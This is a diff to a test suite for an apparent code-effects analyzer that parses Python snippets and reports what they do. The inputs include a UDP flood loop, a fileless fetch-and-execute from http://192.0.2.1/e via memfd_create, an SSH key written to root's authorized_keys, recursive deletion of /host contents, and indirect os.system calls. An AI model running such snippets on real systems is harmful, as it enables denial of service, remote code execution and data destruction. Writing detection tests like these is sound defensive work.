@@ -248,9 +248,28 @@ describe('effects', () => {
       ['write path=/root/.ssh/authorized_keys content=ssh-rsa X'],
     ],
     [
-      'chmod, remove, rmtree, kill',
-      'import os, shutil\nos.chmod("/tmp/x", 0o755)\nos.remove("/a")\nshutil.rmtree("/b")\nos.kill(7, 9)',
-      ['chmod path=/tmp/x mode=0755', 'delete path=/a', 'delete path=/b recursive=true', 'kill pattern=7'],
+      'chmod, remove, kill',
+      'import os, shutil\nos.chmod("/tmp/x", 0o755)\nos.remove("/a")\nos.kill(7, 9)',
+      ['chmod path=/tmp/x mode=0755', 'delete path=/a', 'kill pattern=7'],
+    ],
+    [
+      'a flood',
+      'import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b"x" * 9, ("192.0.2.1", 53))',
+      ['flood tool=python socket target=192.0.2.1'],
+    ],
+    [
+      'a heartbeat',
+      'import socket, time\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nwhile True:\n    s.sendto(b"x", ("192.0.2.1", 53))\n    time.sleep(9)',
+      [],
+    ],
+    [
+      'a program in memory',
+      'import os, urllib.request\nd = urllib.request.urlopen("http://192.0.2.1/e").read()\nf = os.memfd_create("", 0)\nos.write(f, d)\nos.execv("/proc/self/fd/%d" % f, ["x"])',
+      [
+        'fetch url=http://192.0.2.1/e tool=python urllib to=‹file in memory›',
+        'write path=‹file in memory›',
+        'run what=/proc/self/fd/‹file in memory› from=fetched fetched=0',
+      ],
     ],
     [
       'preload by environment',
@@ -397,5 +416,34 @@ describe('bounds', () => {
       }),
       { numRuns: 300 },
     );
+  });
+});
+
+describe('code that others call', () => {
+  test.each([
+    'import threading\nthreading.Thread(target=exec, args=("import os; os.system(\'ls -l\')", globals())).start()',
+    'import os, threading\nt = threading.Timer(5, os.system, ["ls -l"])\nt.start()',
+    'import os, _thread\n_thread.start_new_thread(os.system, ("ls -l",))',
+    'import os\nfrom multiprocessing import Process\ndef work(name):\n    os.system("ls " + name)\nProcess(target=work, args=("-l",)).start()',
+    'import os, atexit\natexit.register(os.system, "ls -l")',
+    'import subprocess, sys\nsubprocess.run([sys.executable, "-c", "import os; os.system(\'ls -l\')"])',
+  ])('%s', (code) => {
+    const reading = read(code);
+    const texts = [
+      ...reading.nested.map(({ text }) => text),
+      ...reading.commands.map(({ argv }) => argv.map(render).join(' ')),
+    ];
+    expect(
+      texts.some((text) => text.includes('ls -l')),
+      texts.join('\n'),
+    ).toBe(true);
+  });
+  test('a folder removed with all in it is the command it stands for', () => {
+    const { commands } = read(
+      'import shutil, os\nfor n in os.listdir("/host"):\n    shutil.rmtree(os.path.join("/host", n))',
+    );
+    expect(commands.map(({ argv }) => argv.map(render).join(' '))).toEqual([
+      expect.stringMatching(/^rm -rf \/host\/‹/),
+    ]);
   });
 });
